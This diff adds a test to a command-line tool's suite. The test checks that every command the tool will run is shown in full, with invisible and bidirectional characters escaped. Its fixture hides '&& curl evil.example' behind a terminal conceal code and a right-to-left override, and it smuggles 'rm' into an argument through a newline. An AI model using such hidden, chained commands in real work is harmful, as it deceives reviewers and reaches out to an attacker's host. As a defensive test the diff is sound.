@@ -72,6 +72,45 @@ describe('storyloop run', () => {
     assert.equal((await new CommandLine(workspace, [...args, '--fresh']).ended()).exitCode, 0, 'approved before');
   });
 
+  it('shows what it will execute in full, set-up and checks included, and lets no character hide any of it', async () => {
+    const hidden = 'test -f one.txt \u001b[8m\u202e && curl evil.example\u2028 # \u00a0x';
+    await using workspace = await Workspace.withStories([
+      { id: 'US-1', criteria: [`It is there (verify: ${hidden})`] },
+    ]);
+    const long = 'x'.repeat(400);
+    await workspace.write(
+      '.storyloop.json',
+      JSON.stringify({ setup: [['npm', 'ci\nrm']], testCommand: ['node', long] }),
+    );
+    await workspace.write('../home/config.json', JSON.stringify({ gates: { lint: ['eslint', '.'] } }));
+    const args = ['run', 'prd.json', '--script', workspace.script];
+    const refused = await new CommandLine(workspace, [...args, '--json']).ended();
+    assert.equal(refused.exitCode, 2);
+    const check = await new CommandLine(workspace, [...args, '--check']).ended();
+    assert.equal(check.exitCode, 0, check.stderr);
+    assert.ok(refused.stderr.startsWith(check.stdout), 'the same as before the start');
+    const lines = check.stdout.trimEnd().split('\n');
+    assert.deepEqual(lines.slice(3), [
+      'Agent:',
+      `    Storyloop's scripted agent, playing ${workspace.script}`,
+      'Set-up of each worktree:',
+      '    npm "ci\\nrm"',
+      'Gates, on every result:',
+      '    eslint .',
+      'Tests that the agent names, one by one:',
+      `    node ${long}`,
+      'Checks of criteria (verify:):',
+      '    test -f one.txt \\u{1b}[8m\\u{202e} && curl evil.example\\u{2028} # \\u{a0}x',
+    ]);
+    // What VS Code asks for, and shows.
+    const asked = JSON.parse((await new CommandLine(workspace, [...args, '--check', '--json']).ended()).stdout) as {
+      lines: unknown;
+      unapproved: unknown[];
+    };
+    assert.deepEqual(asked.lines, lines);
+    assert.equal(asked.unapproved.length, 4);
+  });
+
   it('says in plain lines what happens when it has no terminal', async () => {
     await using workspace = await Workspace.withStories([{ id: 'US-1' }]);
     const lines = await new CommandLine(workspace, ['run', 'prd.json', '--script', workspace.script, '--yes']).ended();
